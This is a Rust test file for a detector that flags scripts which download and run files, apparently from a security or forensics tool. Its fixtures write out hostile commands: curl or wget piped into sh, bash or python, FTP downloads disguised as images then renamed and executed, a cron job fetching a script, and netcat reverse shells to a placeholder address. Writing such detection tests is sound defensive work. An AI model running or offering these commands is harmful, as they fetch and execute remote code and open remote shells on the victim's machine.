//! What a text starts of the files that its own transfers bring: names of any length, other names, and what is piped into a
//! shell.

use crate::support::case;

/// The findings of downloads that are run, each with the words it quotes.
fn executed(files: &[(&'static str, &str)]) -> Vec<String> {
    let case = case(files.iter().map(|(path, text)| (*path, *text)));
    let findings = case.findings.iter().filter(|finding| finding.rule == "script.executes-download");
    findings.map(|finding| finding.explanation.clone()).collect()
}

#[test]
fn a_download_that_is_run_is_told_once() {
    let ftp = "open 192.0.2.1\r\nuser bob pw\r\nbinary\r\nget holiday.jpg\r\nget p.exe\r\nget nc\r\nbye\r\n";
    let cases: [(&'static str, &str); 21] = [
        ("a.sh", "#!/bin/sh\ncurl -s -o /tmp/x ftp://u:p@192.0.2.1/x; chmod +x /tmp/x; /tmp/x\n"),
        ("a.sh", "#!/bin/sh\nftp -n 192.0.2.1 <<EOF\nuser a b\nget bot\nbye\nEOF\nchmod 755 bot\n./bot &\n"),
        ("a.sh", "#!/bin/sh\nwget ftp://u:p@192.0.2.1/nc\nnohup ./nc -e /bin/sh 192.0.2.1 9\n"),
        ("a.sh", "#!/bin/sh\nwget ftp://u:p@192.0.2.1/a\nsh a\n"),
        ("a.sh", "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/a.sh | sh\n"),
        ("a.sh", "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/a.sh | sudo bash -s -- x\n"),
        ("a.sh", "#!/bin/sh\nwget -qO- ftp://u:p@192.0.2.1/a.sh | bash\n"),
        ("a.sh", "#!/bin/sh\nwget -qO- ftp://u:p@192.0.2.1/a.gz | gunzip | sh\n"),
        ("a.sh", "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/a.py | python3 -\n"),
        ("a.sh", "#!/bin/sh\nsh -c \"$(curl -fsSL ftp://u:p@192.0.2.1/a.sh)\"\n"),
        ("a.sh", "#!/bin/bash\neval \"$(curl -s ftp://u:p@192.0.2.1/a.sh)\"\n"),
        ("a.sh", "#!/bin/bash\nbash <(curl -s ftp://u:p@192.0.2.1/a.sh)\n"),
        ("etc/cron.d/b", "*/5 * * * * bob curl -s ftp://u:p@192.0.2.1/a.sh | sh\n"),
        ("root/.bash_history", "curl -s ftp://u:p@192.0.2.1/a.sh | sh\n"),
        ("a.sh", "#!/bin/sh\nwget ftp://u:p@192.0.2.1/pic.png\nmv pic.png /tmp/run\nchmod +x /tmp/run\n/tmp/run\n"),
        ("a.sh", "#!/bin/sh\nwget ftp://u:p@192.0.2.1/pic.png\ncp pic.png a\nmv a b\n./b\n"),
        ("go.bat", "ftp -n -s:u.txt\r\nren holiday.jpg holiday.exe\r\nstart holiday.exe\r\n"),
        ("go.bat", "ftp -n -s:u.txt\r\nmove p.exe C:\\w\\b.exe\r\nC:\\w\\b.exe\r\n"),
        ("go.bat", "ftp -n -s:u.txt\r\ncopy /y p.exe q.exe\r\nq\r\n"),
        ("go.bat", "ftp -n -s:u.txt\r\ncertutil -decode holiday.jpg r.exe\r\nstart /b r.exe\r\n"),
        ("go.bat", "ftp -n -s:u.txt\r\ncmd /c nc -e cmd.exe 192.0.2.1 9\r\n"),
    ];
    for (path, text) in cases {
        let mut files = vec![(path, text)];
        if path == "go.bat" {
            files.push(("u.txt", ftp));
        }
        assert_eq!(executed(&files).len(), 1, "{text}: {:?}", executed(&files));
    }
    // The client's own shell: told as a start of the script, and not once more.
    let own = "open 192.0.2.1\r\nbob\r\npw\r\nbinary\r\nget p.exe\r\n!start p.exe\r\nbye\r\n";
    assert_eq!(executed(&[("z.log", own)]).len(), 1);
}

#[test]
fn what_is_only_touched_is_not_run() {
    let cases = [
        "#!/bin/sh\nwget ftp://u:p@192.0.2.1/kit.tgz\ntar xzf kit.tgz\n",
        "#!/bin/sh\nwget ftp://u:p@192.0.2.1/a\ngrep a /etc/passwd\nfoo a\n",
        "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/list | grep x\nsh other.sh\n",
        "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/list | sort > l\n",
        "#!/bin/sh\ncurl -s -o l ftp://u:p@192.0.2.1/list | sh\n",
        "#!/bin/sh\nwget ftp://u:p@192.0.2.1/pic.png\nmv pic.png old.png\n./run\n",
        "#!/bin/sh\nx=$(curl -s ftp://u:p@192.0.2.1/list)\nsh -c \"$(hostname)\"\n",
    ];
    for text in cases {
        assert_eq!(executed(&[("a.sh", text)]), [""; 0], "{text}");
    }
}
